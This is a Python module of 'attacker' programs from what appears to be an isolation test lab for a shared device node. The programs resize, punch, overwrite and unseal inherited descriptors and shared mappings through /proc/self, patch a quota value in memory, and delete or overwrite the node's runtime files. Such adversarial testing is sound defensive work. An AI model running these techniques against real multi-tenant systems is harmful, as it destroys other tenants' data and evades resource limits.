"""Attacks on shared memory: resize or overwrite what the attacker inherited, mapped or received.

The programs find descriptors and mappings by /proc/self, so that they need not know which of them exist.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import mmap
import os
import stat
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Final, NamedTuple

from cotenant_lab.programs.attacker.context import LIBC, AttackContext, check_result

GIB: Final = 1 << 30
_KEEP_SIZE_AND_PUNCH: Final = 3
_MADV_REMOVE: Final = 9
_GROWN_BYTES: Final = 1 << 30
_SETFL_WRITE: Final = os.O_RDWR | os.O_APPEND


class Mapping(NamedTuple):
    """A shared mapping of this process."""

    start: int
    end: int
    is_writable: bool
    offset: int
    path: str

    @property
    def size_bytes(self) -> int:
        """Return its size."""
        return self.end - self.start

    @property
    def link(self) -> str:
        """Return the name under which the kernel lets a process reopen the mapped file."""
        return f"/proc/self/map_files/{self.start:x}-{self.end:x}"


def mappings() -> list[Mapping]:
    """Return the shared mappings of files, except those of the device's driver."""
    found = []
    for line in Path("/proc/self/maps").read_text(encoding="utf-8", errors="replace").splitlines():
        words = line.split(maxsplit=5)
        if len(words) < 6 or words[1][3] != "s" or _is_of_device(words[5]):
            continue
        start, end = (int(word, 16) for word in words[0].split("-"))
        found.append(Mapping(start, end, words[1][1] == "w", int(words[2], 16), words[5]))
    return found


def descriptors() -> list[int]:
    """Return the open descriptors of regular files and memory files, except standard streams and the report."""
    found = []
    for entry in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(OSError):
            descriptor, link = int(entry.name), str(entry.readlink())
            is_file = stat.S_ISREG(os.fstat(descriptor).st_mode)
            if descriptor > 2 and is_file and not _is_of_device(link) and not link.endswith("/report"):
                found.append(descriptor)
    return found


def _is_of_device(path: str) -> bool:
    """Return whether a file stands for the device itself, which is not the target."""
    return "memfd:softgpu" in path or path.startswith("/dev/")


# -- resizing ----------------------------------------------------------------------------------------------------
def _resize(descriptor: int, how: str) -> None:
    if how == "zero":
        os.ftruncate(descriptor, 0)
    elif how == "grow":
        os.ftruncate(descriptor, _GROWN_BYTES)
    else:
        size_bytes = ctypes.c_long(os.fstat(descriptor).st_size)
        check_result(LIBC.fallocate(descriptor, _KEEP_SIZE_AND_PUNCH, ctypes.c_long(0), size_bytes))


def resize_descriptors(context: AttackContext, how: str) -> None:
    """Resize every open descriptor (`zero`, `grow` or `punch`), directly and reopened for writing."""
    for _ in context.rounds():
        for descriptor in descriptors():
            context.attempt(_resize, descriptor, how)
            context.attempt(_with_file, f"/proc/self/fd/{descriptor}", _resize, how)
        _resize_mapped(context, how)


def resize_mapped(context: AttackContext, how: str) -> None:
    """Resize the file of every shared mapping."""
    for _ in context.rounds():
        _resize_mapped(context, how)


def _resize_mapped(context: AttackContext, how: str) -> None:
    for mapping in mappings():
        context.attempt(_with_file, mapping.link, _resize, how)


def remove_pages(context: AttackContext) -> None:
    """Remove the pages behind every shared mapping (MADV_REMOVE)."""
    for _ in context.rounds():
        for mapping in mappings():
            context.attempt(_advise, mapping, _MADV_REMOVE)


def _advise(mapping: Mapping, advice: int) -> None:
    size = ctypes.c_size_t(mapping.size_bytes)
    check_result(LIBC.madvise(ctypes.c_void_p(mapping.start), size, advice))


def _with_file(path: str, action: Callable[..., object], *arguments: object) -> None:
    """Open a file for writing and call the action with its descriptor."""
    descriptor = os.open(path, os.O_RDWR | os.O_CLOEXEC)
    try:
        action(descriptor, *arguments)
    finally:
        os.close(descriptor)


# -- overwriting -------------------------------------------------------------------------------------------------
def overwrite(context: AttackContext, way: str) -> None:
    """Write random bytes over everything that is reachable in one way."""
    for _ in context.rounds():
        _WAYS[way](context)


def _by_mprotect(context: AttackContext) -> None:
    """Make mappings writable."""
    for mapping in mappings():
        if not mapping.is_writable:
            context.attempt(_write_protected, mapping, context.rng.randbytes(mapping.size_bytes))


def _write_protected(mapping: Mapping, data: bytes) -> None:
    address, size = ctypes.c_void_p(mapping.start), ctypes.c_size_t(mapping.size_bytes)
    check_result(LIBC.mprotect(address, size, mmap.PROT_READ | mmap.PROT_WRITE))
    ctypes.memmove(mapping.start, data, len(data))


def _by_mem(context: AttackContext) -> None:
    """Write through /proc/self/mem, which ignores the protection of private mappings."""
    for mapping in mappings():
        if not mapping.is_writable:
            data = context.rng.randbytes(mapping.size_bytes)
            context.attempt(_with_file, "/proc/self/mem", os.pwrite, data, mapping.start)


def _by_map_files(context: AttackContext) -> None:
    """Reopen mapped files for writing."""
    for mapping in mappings():
        context.attempt(_with_file, mapping.link, _write_all, context)


def _by_reopened(context: AttackContext) -> None:
    """Reopen descriptors for writing."""
    for descriptor in descriptors():
        context.attempt(_with_file, f"/proc/self/fd/{descriptor}", _write_all, context)
    with _open_for_reading(context) as reopened:
        for descriptor in reopened:
            context.attempt(_with_file, f"/proc/self/fd/{descriptor}", _write_all, context)


def _by_descriptor(context: AttackContext) -> None:
    """Write to the descriptors themselves, and map them for writing."""
    with _open_for_reading(context) as reopened:
        for descriptor in [*descriptors(), *reopened]:
            context.attempt(_write_all, descriptor, context)
            context.attempt(_write_mapped, descriptor, context)


def _by_unsealing(context: AttackContext) -> None:
    """Change mode, flags and seals of a file before it is written."""
    with _open_for_reading(context) as reopened:
        for descriptor in [*descriptors(), *reopened]:
            context.attempt(os.fchmod, descriptor, 0o777)
            context.attempt(fcntl.fcntl, descriptor, fcntl.F_SETFL, _SETFL_WRITE)
            context.attempt(fcntl.fcntl, descriptor, fcntl.F_ADD_SEALS, 0)
            context.attempt(_with_file, f"/proc/self/fd/{descriptor}", _write_all, context)


@contextlib.contextmanager
def _open_for_reading(context: AttackContext) -> Iterator[list[int]]:
    """Open the files of all mappings for reading, which needs privileges outside of containers."""
    found: list[int] = []
    for mapping in mappings():
        context.count(1)
        with contextlib.suppress(OSError):
            found.append(os.open(mapping.link, os.O_RDONLY | os.O_CLOEXEC))
    try:
        yield found
    finally:
        for descriptor in found:
            os.close(descriptor)


def _write_all(descriptor: int, context: AttackContext) -> None:
    os.pwrite(descriptor, context.rng.randbytes(os.fstat(descriptor).st_size), 0)


def _write_mapped(descriptor: int, context: AttackContext) -> None:
    size_bytes = os.fstat(descriptor).st_size
    with mmap.mmap(descriptor, size_bytes) as memory:
        memory[:] = context.rng.randbytes(size_bytes)


_WAYS: Final[dict[str, Callable[[AttackContext], None]]] = {
    "mprotect": _by_mprotect,
    "mem": _by_mem,
    "map-files": _by_map_files,
    "reopened": _by_reopened,
    "descriptor": _by_descriptor,
    "unsealed": _by_unsealing,
}


def attack_received(context: AttackContext, descriptor: int) -> None:
    """Resize and overwrite a descriptor that the node sent."""
    path = f"/proc/self/fd/{descriptor}"
    for how in ("zero", "grow", "punch"):
        context.attempt(_resize, descriptor, how)
        context.attempt(_with_file, path, _resize, how)
    context.attempt(_write_all, descriptor, context)
    context.attempt(_write_mapped, descriptor, context)
    context.attempt(_with_file, path, _write_all, context)
    context.attempt(_with_file, path, _write_mapped, context)


def raise_quota(context: AttackContext) -> None:
    """Replace the own quota by 64 GiB wherever it is found, in every way, then allocate 15 GiB."""
    quota = int(context.facts["quota_bytes"]).to_bytes(8, "little")
    raised = (64 * GIB).to_bytes(8, "little")
    for mapping in mappings():
        content = ctypes.string_at(mapping.start, mapping.size_bytes)
        place = content.find(quota)
        while place >= 0:
            for path in (mapping.link, *(f"/proc/self/fd/{descriptor}" for descriptor in descriptors())):
                context.attempt(_with_file, path, os.pwrite, raised, mapping.offset + place)
            context.attempt(_with_file, "/proc/self/mem", os.pwrite, raised, mapping.start + place)
            place = content.find(quota, place + 8)
    assert context.client is not None
    for _ in range(15):
        context.attempt(context.client.allocate, GIB)
    for _ in context.rounds():
        pass


# -- files -------------------------------------------------------------------------------------------------------
def overwrite_runtime_files(context: AttackContext) -> None:
    """Overwrite every regular file of the node's runtime directory, except those of the device."""
    runtime = Path(context.facts["runtime"])
    for _ in context.rounds():
        for path in sorted(runtime.rglob("*")):
            if "softgpu" not in path.parts and path.is_file() and not path.is_symlink():
                context.attempt(path.write_bytes, context.rng.randbytes(4096))


def delete_runtime_files(context: AttackContext) -> None:
    """Delete sockets, locks and directories of the node."""
    runtime = Path(context.facts["runtime"])
    context.note("deleting")
    for path in sorted(runtime.rglob("*"), reverse=True):
        if "softgpu" not in path.parts:
            context.attempt(path.rmdir if path.is_dir() and not path.is_symlink() else path.unlink)
    for _ in context.rounds():
        pass
